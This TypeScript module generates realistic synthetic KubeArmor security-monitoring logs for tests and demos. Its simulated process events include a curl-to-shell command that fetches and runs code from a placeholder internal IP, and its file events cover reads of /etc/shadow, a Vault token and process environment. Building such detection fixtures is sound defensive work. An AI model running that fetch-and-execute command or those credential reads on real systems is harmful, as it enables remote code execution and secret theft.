// Realistic KubeArmor relay output for demos, tests and benchmarks: alerts, visibility logs and
// daemon messages in roughly the proportions a cluster with process+network visibility produces,
// with the field variety of real versions, plus the relay's own noise. Lines are shaped as Go's
// encoding/json prints them: PascalCase keys in declaration order, empty fields omitted (PPID and
// UID always present), map keys sorted, `&`, `<`, `>` escaped as \u0026, \u003c, \u003e.

export type GeneratedKind = 'alert' | 'log' | 'message' | 'relay';

export interface GeneratedLine {
  kind: GeneratedKind;
  stream: 'stdout' | 'stderr';
  /** The line the relay printed (no newline). */
  text: string;
  /** For KubeArmor records: the fields dashboards chart. */
  facts?: {
    Type: string;
    Operation?: string;
    Action?: string;
    Severity?: string;
    NamespaceName?: string;
    PodName?: string;
    PolicyName?: string;
  };
}

/** Small, fast, seedable PRNG (mulberry32): the same seed gives the same files. */
export class Random {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0 || 1;
  }

  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }

  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)] as T;
  }

  /** Picks by weight: `[[value, weight], …]`. */
  weighted<T>(items: readonly (readonly [T, number])[]): T {
    let total = 0;
    for (const [, w] of items) total += w;
    let r = this.next() * total;
    for (const [v, w] of items) {
      r -= w;
      if (r < 0) return v;
    }
    return (items[items.length - 1] as readonly [T, number])[0];
  }

  hex(length: number): string {
    let s = '';
    while (s.length < length)
      s += Math.floor(this.next() * 0x100000000)
        .toString(16)
        .padStart(8, '0');
    return s.slice(0, length);
  }
}

interface Workload {
  ns: string;
  pod: string;
  owner: { Ref: string; Name: string; Namespace: string } | undefined;
  labels: string;
  container: string;
  containerId: string;
  image: string;
  processes: readonly string[];
}

const NODES = [
  { name: 'aks-agentpool-16128849-vmss000000', id: '1c2b3a4f5e6d7c8b9a0f1e2d3c4b5a69' },
  { name: 'aks-agentpool-16128849-vmss000001', id: '8f3c2a1b9d4e4f6a8b7c6d5e4f3a2b1c' },
  { name: 'aks-agentpool-16128849-vmss000002', id: '0b8e1f6c2d7a4e9f8c3b5a6d7e8f9012' },
];

function workloads(rnd: Random): Workload[] {
  const make = (
    ns: string,
    pod: string,
    ownerKind: string | undefined,
    ownerName: string,
    labels: string,
    container: string,
    image: string,
    processes: string[],
  ): Workload => ({
    ns,
    pod,
    owner: ownerKind === undefined ? undefined : { Ref: ownerKind, Name: ownerName, Namespace: ns },
    labels,
    container,
    containerId: rnd.hex(64),
    image: `${image}@sha256:${rnd.hex(64)}`,
    processes,
  });
  return [
    make(
      'wordpress-mysql',
      'wordpress-787f45786f-2q9wf',
      'Deployment',
      'wordpress',
      'app=wordpress',
      'wordpress',
      'docker.io/library/wordpress:4.8-apache',
      ['/usr/sbin/apache2', '/bin/bash', '/usr/bin/apt', '/usr/local/bin/php'],
    ),
    make(
      'wordpress-mysql',
      'mysql-6c4f8c8f9d-7hzkq',
      'Deployment',
      'mysql',
      'app=mysql',
      'mysql',
      'docker.io/library/mysql:5.6',
      ['/usr/sbin/mysqld', '/bin/sh', '/usr/bin/mysql'],
    ),
    make(
      'default',
      'vault-0',
      'StatefulSet',
      'vault',
      'app.kubernetes.io/instance=vault,app.kubernetes.io/name=vault,component=server,statefulset.kubernetes.io/pod-name=vault-0',
      'vault',
      'docker.io/hashicorp/vault:1.13.1',
      ['/bin/vault', '/bin/sh', '/bin/cat'],
    ),
    make(
      'kube-system',
      'coredns-5d78c9869d-8xk2p',
      'Deployment',
      'coredns',
      'k8s-app=kube-dns',
      'coredns',
      'registry.k8s.io/coredns/coredns:v1.10.1',
      ['/coredns'],
    ),
    make(
      'payments',
      'api-7f9c6d5b8-x1y2z',
      'Deployment',
      'api',
      'app.kubernetes.io/name=api,app.kubernetes.io/part-of=payments,team=pay',
      'api',
      'ghcr.io/example/payments-api:2.4.1',
      ['/app/server', '/bin/sh', '/usr/bin/curl'],
    ),
    make(
      'payments',
      'ledger-batch-28391725-kq5tz',
      'Job',
      'ledger-batch-28391725',
      'job-name=ledger-batch-28391725',
      'ledger',
      'ghcr.io/example/ledger:1.0.3',
      ['/app/ledger', '/bin/sh'],
    ),
    make(
      'accuknox-agents',
      'policy-enforcement-agent-7946b64dfb-f4lgv',
      'Deployment',
      'policy-enforcement-agent',
      'app=policy-enforcement-agent',
      'policy-enforcement-agent',
      'public.ecr.aws/k9v9d5v2/policy-enforcement-agent:v0.1.0',
      ['/home/pea/main'],
    ),
    make('Unknown', 'Unknown', undefined, '', '', 'sidecar', 'docker.io/library/busybox:1.36', ['/bin/sh']),
  ];
}

interface Policy {
  name: string;
  severity: string | undefined;
  tags: string[];
  message: string | undefined;
  operation: string;
  action: string;
}

const POLICIES: readonly Policy[] = [
  {
    name: 'harden-wordpress-pkg-mngr-exec',
    severity: '5',
    tags: ['NIST', 'NIST_800-53_CM-7(4)', 'SI-4', 'process', 'NIST_800-53_SI-4'],
    message: 'Alert! Execution of package management process inside container is denied',
    operation: 'Process',
    action: 'Block',
  },
  {
    name: 'ksp-vault-audit-secrets',
    severity: '7',
    tags: ['MITRE', 'MITRE_T1552_unsecured_credentials'],
    message: 'Vault token file read',
    operation: 'File',
    action: 'Audit',
  },
  {
    name: 'block-shell-in-db',
    severity: '8',
    tags: ['MITRE', 'MITRE_T1059_command_and_scripting_interpreter'],
    message: 'Shell spawned in database container',
    operation: 'Process',
    action: 'Block',
  },
  {
    name: 'restrict-raw-sockets',
    severity: '6',
    tags: ['NIST', 'CIS'],
    message: 'Raw socket use',
    operation: 'Network',
    action: 'Block',
  },
  {
    name: 'audit-etc-writes',
    severity: '3',
    tags: ['PCI_DSS', 'file-integrity'],
    message: 'Write under /etc',
    operation: 'File',
    action: 'Audit',
  },
  {
    name: 'capability-net-raw',
    severity: '4',
    tags: ['CIS_Kubernetes_Benchmark'],
    message: 'CAP_NET_RAW requested',
    operation: 'Capabilities',
    action: 'Block',
  },
  {
    name: 'allow-only-app-binaries',
    severity: '10',
    tags: ['zero-trust'],
    message: 'Only the application binary may run',
    operation: 'Process',
    action: 'Allow',
  },
  {
    name: 'payments-egress-audit',
    severity: '2',
    tags: [],
    message: undefined,
    operation: 'Network',
    action: 'Audit',
  },
  {
    name: 'DefaultPosture',
    severity: undefined,
    tags: [],
    message: undefined,
    operation: 'File',
    action: 'Block',
  },
  {
    name: 'DefaultPosture',
    severity: undefined,
    tags: [],
    message: undefined,
    operation: 'Process',
    action: 'Audit',
  },
];

const FILES = [
  '/etc/passwd',
  '/etc/shadow',
  '/vault/config/token',
  '/var/www/html/wp-config.php',
  '/tmp/x.sh',
  '/etc/hosts',
  '/proc/self/environ',
];
const ERRORS = [
  'Permission denied',
  'Operation not permitted',
  'No such file or directory',
  'Connection refused',
];

/** Go's encoding/json escapes these even inside strings; JSON.stringify does not. */
function goJson(value: unknown): string {
  return JSON.stringify(value).replace(/[&<>]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`);
}

function sortedObject(entries: [string, string][]): Record<string, string> {
  entries.sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0));
  return Object.fromEntries(entries);
}

/** EventData as KubeArmor builds it: `k=v` tokens of Data (and Resource for Network), first letter upper-cased. */
function eventData(
  data: string,
  resource: string | undefined,
  operation: string,
): Record<string, string> | undefined {
  const entries: [string, string][] = [];
  const add = (text: string) => {
    for (const token of text.split(/\s+/)) {
      const eq = token.indexOf('=');
      if (eq > 0) entries.push([token[0]?.toUpperCase() + token.slice(1, eq), token.slice(eq + 1)]);
    }
  };
  add(data);
  if (operation === 'Network' && resource !== undefined) add(resource);
  return entries.length > 0 ? sortedObject(entries) : undefined;
}

interface Activity {
  operation: string;
  source: string;
  resource: string | undefined;
  data: string;
  result: string;
}

export class RelayRecordFactory {
  private readonly rnd: Random;
  private readonly pods: Workload[];
  private execSeq = 1000;
  /** Fraction of records that carry a command line long enough to be split by the runtime. */
  longRecordRate = 0.003;
  /** False: the relay prints no event (ENABLE_STDOUT_* off), only its own log on stderr. */
  stdoutEvents = true;

  constructor(seed: number) {
    this.rnd = new Random(seed);
    this.pods = workloads(this.rnd);
  }

  /** One relay line at time `ms` (Unix milliseconds). */
  next(ms: number): GeneratedLine {
    if (!this.stdoutEvents) return this.relayNoise(ms, false);
    const kind = this.rnd.weighted<GeneratedKind>([
      ['log', 78],
      ['alert', 16],
      ['message', 1],
      ['relay', 5],
    ]);
    switch (kind) {
      case 'alert':
        return this.alert(ms);
      case 'log':
        return this.log(ms);
      case 'message':
        return this.message(ms);
      default:
        return this.relayNoise(ms, true);
    }
  }

  private times(ms: number): { Timestamp: number; UpdatedTime: string } {
    const iso = new Date(ms).toISOString(); // …T10:41:47.932Z
    const micros = String(this.rnd.int(0, 999)).padStart(3, '0');
    return { Timestamp: Math.floor(ms / 1000), UpdatedTime: `${iso.slice(0, 23)}${micros}Z` };
  }

  private activity(operation: string, w: Workload): Activity {
    const rnd = this.rnd;
    const proc = rnd.pick(w.processes);
    switch (operation) {
      case 'Process': {
        let cmd = rnd.pick([
          `${proc}`,
          `/bin/sh -ec ${proc} status && echo ok`,
          '/usr/bin/apt update',
          `/bin/bash -c curl http://10.0.0.${rnd.int(2, 250)}/x | sh`,
        ]);
        if (rnd.next() < this.longRecordRate) cmd += ` --config ${'A'.repeat(rnd.int(17_000, 40_000))}`;
        return {
          operation,
          source: rnd.pick(['/bin/bash', '/usr/bin/runc', '/bin/sh']),
          resource: cmd,
          data: 'syscall=SYS_EXECVE',
          result: 'Passed',
        };
      }
      case 'File': {
        const path = rnd.pick(FILES);
        const flags = rnd.pick(['O_RDONLY', 'O_WRONLY|O_CREAT|O_TRUNC', 'O_RDONLY|O_CLOEXEC']);
        const data = rnd.next() < 0.3 ? 'lsm=FILE_OPEN' : `syscall=SYS_OPENAT fd=-100 flags=${flags}`;
        return {
          operation,
          source: `${proc} ${path}`,
          resource: path,
          data,
          result: rnd.next() < 0.8 ? 'Passed' : rnd.pick(ERRORS),
        };
      }
      case 'Network': {
        const ip = `10.${rnd.int(0, 3)}.${rnd.int(0, 255)}.${rnd.int(1, 254)}`;
        const port = rnd.pick(['443', '53', '3306', '8080', '6379']);
        const shape = rnd.int(0, 2);
        if (shape === 0) {
          const host = rnd.next() < 0.5 ? ` remotehost=svc/default/kubernetes` : '';
          return {
            operation,
            source: proc,
            resource: `remoteip=${ip} port=${port} protocol=TCP${host}`,
            data: 'kprobe=tcp_connect domain=AF_INET',
            result: 'Passed',
          };
        }
        if (shape === 1) {
          return {
            operation,
            source: proc,
            resource: 'domain=AF_INET type=SOCK_STREAM protocol=TCP',
            data: 'syscall=SYS_SOCKET',
            result: 'Passed',
          };
        }
        return {
          operation,
          source: proc,
          resource: `sa_family=AF_INET sin_port=${port} sin_addr=${ip}`,
          data: `syscall=SYS_CONNECT fd=${rnd.int(3, 40)}`,
          result: rnd.next() < 0.9 ? 'Passed' : 'Connection refused',
        };
      }
      case 'Capabilities':
        return {
          operation,
          source: proc,
          resource: 'CAP_NET_RAW',
          data: 'lsm=CAPABLE CAP_NET_RAW',
          result: 'Permission denied',
        };
      default:
        return {
          operation: 'Syscall',
          source: proc,
          resource: undefined,
          data: `syscall=SYS_SETUID userid=${rnd.int(0, 1000)}`,
          result: 'Operation not permitted',
        };
    }
  }

  private process(w: Workload | undefined): Record<string, unknown> {
    const rnd = this.rnd;
    const hostPid = rnd.int(1000, 3_000_000);
    return {
      HostPPID: rnd.next() < 0.95 ? hostPid - rnd.int(1, 500) : undefined,
      HostPID: hostPid,
      PPID: w === undefined ? 0 : rnd.int(0, 400),
      PID: w === undefined ? hostPid : rnd.int(1, 50_000),
      UID: rnd.weighted([
        [0, 6],
        [100, 2],
        [1000, 2],
      ]),
    };
  }

  private alert(ms: number): GeneratedLine {
    const rnd = this.rnd;
    const node = rnd.pick(NODES);
    const type = rnd.weighted([
      ['MatchedPolicy', 82],
      ['MatchedHostPolicy', 10],
      ['MatchedNetworkPolicy', 5],
      ['SystemEvent', 3],
    ]);
    const host = type === 'MatchedHostPolicy';
    const w = host ? undefined : rnd.pick(this.pods);
    if (type === 'SystemEvent') return this.throttle(ms, node, w as Workload);
    const policy =
      type === 'MatchedNetworkPolicy'
        ? {
            name: 'egress-deny-external',
            severity: '6',
            tags: ['network'],
            message: 'Egress blocked',
            operation: 'NetworkFirewall',
            action: 'Block',
          }
        : rnd.pick(POLICIES);
    let action = policy.action;
    if (!host && policy.name !== 'DefaultPosture' && rnd.next() < 0.1)
      action = `Audit (${policy.action === 'Allow' ? 'Allow' : 'Block'})`;
    const act =
      policy.operation === 'NetworkFirewall'
        ? {
            operation: 'NetworkFirewall',
            source: '',
            resource: 'EGRESS',
            data: `SourceIP=10.1.2.3 SourcePort=${rnd.int(30000, 60000)} DestinationIP=93.184.216.34 DestinationPort=443 Protocol=TCP`,
            result: 'Permission denied',
          }
        : this.activity(policy.operation, w ?? (this.pods[0] as Workload));
    const blocked = action === 'Block';
    const result = blocked ? rnd.pick(['Permission denied', 'Operation not permitted']) : act.result;
    const proc = this.process(w);
    const enforcer =
      action.startsWith('Audit') || (policy.name === 'DefaultPosture' && action === 'Audit')
        ? 'eBPF Monitor'
        : policy.operation === 'NetworkFirewall'
          ? 'NetworkPolicyEnforcer'
          : rnd.pick(['BPFLSM', 'AppArmor']);
    const doc = {
      ...this.times(ms),
      ClusterName: 'default',
      HostName: node.name,
      ...this.podFields(w),
      ...proc,
      ParentProcessName: host ? '/usr/sbin/sshd' : '/bin/bash',
      ProcessName: host ? '/usr/sbin/sshd' : rnd.pick((w as Workload).processes),
      PolicyName: policy.name,
      Severity: policy.severity,
      Tags: policy.tags.length > 0 ? policy.tags.join(',') : undefined,
      ATags: policy.tags.length > 0 ? policy.tags : undefined,
      Message: policy.message,
      Type: type,
      Source: act.source === '' ? undefined : act.source,
      Operation: act.operation,
      Resource: act.resource,
      Data: act.data,
      EventData: eventData(act.data, act.resource, act.operation),
      Enforcer: enforcer,
      Action: action,
      Result: result,
      Cwd: '/',
      TTY: rnd.next() < 0.2 ? 'pts0' : undefined,
      ExecEvent: { ExecID: String(this.execSeq++), ExecutableName: 'bash' },
      KubeArmorVersion: enforcer === 'BPFLSM' ? 'v1.6.3' : undefined,
      NodeID: node.id,
      UserName: host ? 'sshd' : undefined,
    };
    return {
      kind: 'alert',
      stream: 'stdout',
      text: goJson(doc),
      facts: {
        Type: type,
        Operation: act.operation,
        Action: action,
        ...(policy.severity === undefined ? {} : { Severity: policy.severity }),
        ...(w === undefined ? {} : { NamespaceName: w.ns, PodName: w.pod }),
        PolicyName: policy.name,
      },
    };
  }

  private throttle(ms: number, node: (typeof NODES)[number], w: Workload): GeneratedLine {
    const doc = {
      ...this.times(ms),
      ClusterName: 'default',
      HostName: node.name,
      ...this.podFields(w),
      PPID: 0,
      UID: 0,
      Type: 'SystemEvent',
      Operation: 'AlertThreshold',
      Enforcer: 'BPFLSM',
      Result: 'Passed',
      MaxAlertsPerSec: 10,
      DroppingAlertsInterval: 30,
      ExecEvent: { ExecID: '0' },
      NodeID: node.id,
    };
    return {
      kind: 'alert',
      stream: 'stdout',
      text: goJson(doc),
      facts: { Type: 'SystemEvent', Operation: 'AlertThreshold', NamespaceName: w.ns, PodName: w.pod },
    };
  }

  private podFields(w: Workload | undefined): Record<string, unknown> {
    if (w === undefined) return {};
    return {
      NamespaceName: w.ns,
      Owner: w.owner,
      PodName: w.pod,
      Labels: w.labels === '' ? undefined : w.labels,
      ContainerID: w.containerId,
      ContainerName: w.container,
      ContainerImage: w.image,
    };
  }

  private log(ms: number): GeneratedLine {
    const rnd = this.rnd;
    const node = rnd.pick(NODES);
    const host = rnd.next() < 0.15;
    const w = host ? undefined : rnd.pick(this.pods);
    const operation = rnd.weighted([
      ['Process', 40],
      ['Network', 35],
      ['File', 20],
      ['Capabilities', 3],
      ['Syscall', 2],
    ]);
    const act = this.activity(operation, w ?? (this.pods[0] as Workload));
    const proc = this.process(w);
    const type = host ? 'HostLog' : 'ContainerLog';
    const doc = {
      ...this.times(ms),
      ClusterName: 'default',
      HostName: node.name,
      ...this.podFields(w),
      ParentProcessName: host ? '/usr/lib/systemd/systemd' : '/usr/bin/containerd-shim-runc-v2',
      ProcessName: host ? '/usr/bin/kubelet' : rnd.pick((w as Workload).processes),
      ...proc,
      Type: type,
      Source: act.source,
      Operation: act.operation,
      Resource: act.resource,
      Data: act.data,
      EventData: eventData(act.data, act.resource, act.operation),
      Result: act.result,
      Cwd: '/',
      ExecEvent: { ExecID: String(this.execSeq++), ExecutableName: 'sh' },
      NodeID: node.id,
      UserName: host ? 'root' : undefined,
    };
    return {
      kind: 'log',
      stream: 'stdout',
      text: goJson(doc),
      facts: {
        Type: type,
        Operation: act.operation,
        ...(w === undefined ? {} : { NamespaceName: w.ns, PodName: w.pod }),
      },
    };
  }

  private message(ms: number): GeneratedLine {
    const rnd = this.rnd;
    const node = rnd.pick(NODES);
    const w = rnd.pick(this.pods);
    const doc = {
      ...this.times(ms),
      ClusterName: 'default',
      HostName: node.name,
      HostIP: `10.224.0.${rnd.int(2, 250)}`,
      Type: 'Message',
      Level: rnd.weighted([
        ['INFO', 8],
        ['DEBUG', 1],
        ['WARN', 1],
      ]),
      Message: `Detected a Pod (added/${w.ns}/${w.pod})`,
    };
    return { kind: 'message', stream: 'stdout', text: goJson(doc), facts: { Type: 'Message' } };
  }

  /** The relay's own log; `golog`: with the lines an adapter prints on stdout for each event. */
  private relayNoise(ms: number, golog: boolean): GeneratedLine {
    const rnd = this.rnd;
    const d = new Date(ms);
    const zapTs = `${d.toISOString().slice(0, 10)} ${d.toISOString().slice(11, 23)}${String(rnd.int(0, 999)).padStart(3, '0')}`;
    const shape = rnd.weighted([
      ['host-not-found', 5],
      ['zap-info', 2],
      ['zap-error', 1],
      ['klog', 1],
      ['golog', golog ? 1 : 0],
    ]);
    switch (shape) {
      case 'host-not-found':
        return {
          kind: 'relay',
          stream: 'stderr',
          text: `{"level":"info","ts":"${zapTs}","caller":"log/logger.go:54","msg":"Host not found for this IP"}`,
        };
      case 'zap-info':
        return {
          kind: 'relay',
          stream: 'stderr',
          text: `{"level":"info","ts":"${zapTs}","caller":"log/logger.go:54","msg":"Successfully connected to KubeArmor (${NODES[0]?.name})"}`,
        };
      case 'zap-error':
        return {
          kind: 'relay',
          stream: 'stderr',
          text: `{"level":"error","ts":"${zapTs}","caller":"log/logger.go:74","msg":"Failed to receive an alert","stacktrace":"github.com/kubearmor/kubearmor-relay-server/relay-server/log.Err\\n\\t/relay-server/log/logger.go:74"}`,
        };
      case 'klog':
        return {
          kind: 'relay',
          stream: 'stderr',
          text: `E${d.toISOString().slice(5, 7)}${d.toISOString().slice(8, 10)} ${d.toISOString().slice(11, 23)}000       1 reflector.go:200] "Failed to watch" err="failed to list *v1.Pod: pods is forbidden"`,
        };
      default:
        return {
          kind: 'relay',
          stream: 'stdout',
          text: `${d.toISOString().slice(0, 10).replace(/-/g, '/')} ${d.toISOString().slice(11, 19)} received alert`,
        };
    }
  }
}
